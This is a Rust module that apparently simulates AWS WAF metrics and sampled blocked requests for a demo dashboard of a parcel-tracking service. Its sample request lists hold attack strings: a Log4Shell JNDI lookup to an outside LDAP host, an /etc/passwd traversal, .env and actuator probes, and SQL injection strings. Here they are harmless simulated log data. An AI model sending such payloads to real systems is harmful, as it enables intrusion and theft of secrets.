//! WAF web ACLs: steady background blocking with the odd attack burst, counted per minute.

use chrono::Duration;

use super::METRIC_POINTS;
use super::random::{doc_ip, hex, int, pick, scatter};
use crate::estate::{RuleKind, SampledRequest, Series, Timestamp, WafRule, WebAcl};
use crate::rng::Rng;

/// One rule of the ACL as the demo runs it.
struct RuleSpec {
    name: &'static str,
    /// False for the rate-based rule.
    managed: bool,
    /// Blocks a minute outside an attack, drawn once per ACL.
    blocked: (f64, f64),
    /// Requests matched by the rule group's rules that are set to count.
    counted: (f64, f64),
    /// `{id}` is replaced by a parcel number.
    uris: &'static [&'static str],
}

/// Outside attacks the ACL blocks at most ~40 a minute, under the 50 a minute the health rules
/// need before they call anything a spike, so a quiet estate never looks attacked.
const RULES: [RuleSpec; 5] = [
    RuleSpec {
        name: "AWSManagedRulesCommonRuleSet",
        managed: true,
        blocked: (4.0, 9.0),
        counted: (2.0, 8.0),
        uris: &[
            "/.env",
            "/wp-login.php",
            "/api/parcels/{id}/../../etc/passwd",
            "/cgi-bin/luci",
        ],
    },
    RuleSpec {
        name: "AWSManagedRulesKnownBadInputsRuleSet",
        managed: true,
        blocked: (1.0, 3.0),
        counted: (0.0, 0.0),
        uris: &[
            "/api/parcels/{id}?q=${jndi:ldap://198.51.100.7/a}",
            "/actuator/env",
            "/login",
        ],
    },
    RuleSpec {
        name: "AWSManagedRulesSQLiRuleSet",
        managed: true,
        blocked: (2.0, 5.0),
        counted: (0.0, 0.0),
        uris: &[
            "/track?id={id}'%20OR%201=1--",
            "/api/parcels/search?q=1%27%20UNION%20SELECT%20NULL--",
            "/login",
        ],
    },
    RuleSpec {
        name: "AWSManagedRulesAmazonIpReputationList",
        managed: true,
        blocked: (5.0, 12.0),
        counted: (0.0, 0.0),
        uris: &["/login", "/track?id={id}", "/api/parcels/{id}"],
    },
    RuleSpec {
        name: "RateLimitPerIP",
        managed: false,
        blocked: (0.0, 3.0),
        counted: (0.0, 0.0),
        uris: &["/track?id={id}", "/api/parcels/{id}/events"],
    },
];
const SQLI: usize = 2;
const RATE: usize = 4;
const RATE_LIMIT: u64 = 2000;
const COUNTRIES: [&str; 10] = ["US", "CN", "RU", "BR", "NL", "DE", "VN", "IN", "RO", "GB"];
const KEPT_SAMPLES: usize = 10;
/// Minutes between the end of one attack and the start of the next: ~18 on average.
const QUIET_MINUTES: (u64, u64) = (8, 28);
/// The attack on screen when the demo starts; it is over well before the start.
const PAST_ATTACK_MINUTES: (u64, u64) = (20, 50);
/// How much of an attack's extra blocking lands on its rule; the rest spreads over the others.
const ATTACK_SHARE: f64 = 0.85;

#[derive(Debug, Clone)]
struct Attack {
    rule: usize,
    /// The ACL blocks this many times its usual rate.
    factor: f64,
    minutes_left: u32,
    client_ip: String,
    country: &'static str,
}

#[derive(Debug, Clone)]
struct SimAcl {
    acl: WebAcl,
    blocked_rate: Vec<f64>,
    counted_rate: Vec<f64>,
    /// Allowed requests a minute at the daily average.
    allowed_rate: f64,
    attack: Option<Attack>,
    next_attack: Timestamp,
}

#[derive(Debug, Clone)]
pub(super) struct SimWaf {
    acls: Vec<SimAcl>,
    start: Timestamp,
    rng: Rng,
}

impl SimWaf {
    pub(super) fn new(names: &[String], start: Timestamp, mut rng: Rng) -> Self {
        let acls = names
            .iter()
            .map(|name| {
                let id = format!(
                    "{}-{}-{}-{}-{}",
                    hex(&mut rng, 8),
                    hex(&mut rng, 4),
                    hex(&mut rng, 4),
                    hex(&mut rng, 4),
                    hex(&mut rng, 12)
                );
                let series = || Series::with_capacity(METRIC_POINTS);
                let rules = RULES
                    .iter()
                    .zip(0..)
                    .map(|(spec, priority)| WafRule {
                        name: spec.name.into(),
                        priority,
                        kind: if spec.managed {
                            RuleKind::ManagedRuleGroup {
                                vendor: "AWS".into(),
                                name: spec.name.into(),
                            }
                        } else {
                            RuleKind::RateBased { limit: RATE_LIMIT }
                        },
                        blocked: series(),
                        allowed: series(),
                        counted: series(),
                    })
                    .collect();
                let blocked_rate = RULES
                    .iter()
                    .map(|r| rng.range(r.blocked.0, r.blocked.1))
                    .collect();
                let counted_rate = RULES
                    .iter()
                    .map(|r| rng.range(r.counted.0, r.counted.1))
                    .collect();
                let past = int(&mut rng, PAST_ATTACK_MINUTES.0, PAST_ATTACK_MINUTES.1);
                SimAcl {
                    acl: WebAcl {
                        name: name.clone(),
                        id,
                        rules,
                        blocked: series(),
                        allowed: series(),
                        counted: series(),
                        sampled: Some(vec![]),
                    },
                    blocked_rate,
                    counted_rate,
                    allowed_rate: rng.range(600.0, 1500.0),
                    attack: None,
                    next_attack: start - Duration::minutes(past as i64),
                }
            })
            .collect();
        Self { acls, start, rng }
    }

    pub(super) fn snapshot(&self) -> Vec<WebAcl> {
        self.acls.iter().map(|a| a.acl.clone()).collect()
    }

    pub(super) fn minute(&mut self, at: Timestamp) {
        for acl in &mut self.acls {
            acl.minute(at, self.start, &mut self.rng);
        }
    }
}

impl SimAcl {
    fn minute(&mut self, at: Timestamp, start: Timestamp, rng: &mut Rng) {
        if self.attack.is_none() && at >= self.next_attack {
            self.attack = Some(Attack {
                rule: if rng.chance(0.6) { RATE } else { SQLI },
                factor: rng.range(5.0, 15.0),
                minutes_left: int(rng, 2, 5) as u32,
                client_ip: doc_ip(rng),
                country: pick(rng, &COUNTRIES),
            });
        }
        let blocked = self.blocked_means();
        let (mut total_blocked, mut total_counted) = (0.0, 0.0);
        let mut counts = Vec::with_capacity(RULES.len());
        for (i, rule) in self.acl.rules.iter_mut().enumerate() {
            let b = scatter(rng, blocked[i]);
            let c = scatter(rng, self.counted_rate[i]);
            rule.blocked.push(at, b);
            rule.counted.push(at, c);
            // Managed groups and the rate rule only ever block or count; allowing is the
            // ACL's default action, so it shows in the totals alone.
            rule.allowed.push(at, 0.0);
            total_blocked += b;
            total_counted += c;
            counts.push(b);
        }
        self.acl.blocked.push(at, total_blocked);
        self.acl.counted.push(at, total_counted);
        self.acl
            .allowed
            .push(at, scatter(rng, self.allowed_rate * daily_shape(at)));
        self.sample(at, &counts, rng);

        if let Some(attack) = &mut self.attack {
            attack.minutes_left -= 1;
            if attack.minutes_left == 0 {
                self.attack = None;
                let mut next =
                    at + Duration::minutes(int(rng, QUIET_MINUTES.0, QUIET_MINUTES.1) as i64);
                // The estate must start calm: an attack that would be under way at the start
                // moves after it.
                if next <= start {
                    next = start + (next - at);
                }
                self.next_attack = next;
            }
        }
    }

    /// This minute's expected blocks per rule, attack included.
    fn blocked_means(&self) -> Vec<f64> {
        let Some(attack) = &self.attack else {
            return self.blocked_rate.clone();
        };
        let total: f64 = self.blocked_rate.iter().sum();
        let others = total - self.blocked_rate[attack.rule];
        let extra = total * (attack.factor - 1.0);
        self.blocked_rate
            .iter()
            .enumerate()
            .map(|(i, &rate)| {
                if i == attack.rule {
                    rate + extra * ATTACK_SHARE
                } else {
                    rate + extra * (1.0 - ATTACK_SHARE) * rate / others
                }
            })
            .collect()
    }

    /// Adds this minute's sampled blocked requests, newest first; an attack is sampled more.
    fn sample(&mut self, at: Timestamp, blocked: &[f64], rng: &mut Rng) {
        let total: f64 = blocked.iter().sum();
        let n = match (&self.attack, total > 0.0) {
            (_, false) => 0,
            (Some(_), true) => 3,
            (None, true) => u64::from(rng.chance(0.6)),
        };
        let samples = self.acl.sampled.get_or_insert_with(Vec::new);
        for _ in 0..n {
            let rule = weighted(rng, blocked, total);
            let spec = &RULES[rule];
            let (client_ip, country) = match &self.attack {
                Some(a) if a.rule == rule => (a.client_ip.clone(), a.country),
                _ => (doc_ip(rng), pick(rng, &COUNTRIES)),
            };
            let parcel = format!("QP{:09}GB", int(rng, 0, 1_000_000_000));
            let uri = pick(rng, spec.uris).replace("{id}", &parcel);
            let method = if uri == "/login" { "POST" } else { "GET" };
            samples.insert(
                0,
                SampledRequest {
                    at: at - Duration::seconds(int(rng, 0, 60) as i64),
                    client_ip,
                    country: country.into(),
                    method: method.into(),
                    uri,
                    rule: spec.name.into(),
                    action: "BLOCK".into(),
                },
            );
        }
        samples.sort_by_key(|s| std::cmp::Reverse(s.at));
        samples.truncate(KEPT_SAMPLES);
    }
}

/// An index drawn with probability proportional to its weight.
fn weighted(rng: &mut Rng, weights: &[f64], total: f64) -> usize {
    let mut left = rng.range(0.0, total);
    for (i, w) in weights.iter().enumerate() {
        if left < *w {
            return i;
        }
        left -= w;
    }
    weights.len() - 1
}

/// Parcel tracking follows the (European) day: quiet at night, busiest mid-afternoon UTC.
/// Busier in the afternoon, quieter at night: requests, and the attacks among them.
pub(super) fn daily_shape(at: Timestamp) -> f64 {
    let hour = at.timestamp().rem_euclid(86_400) as f64 / 3600.0;
    1.0 + 0.5 * ((hour - 8.0) / 24.0 * std::f64::consts::TAU).sin()
}
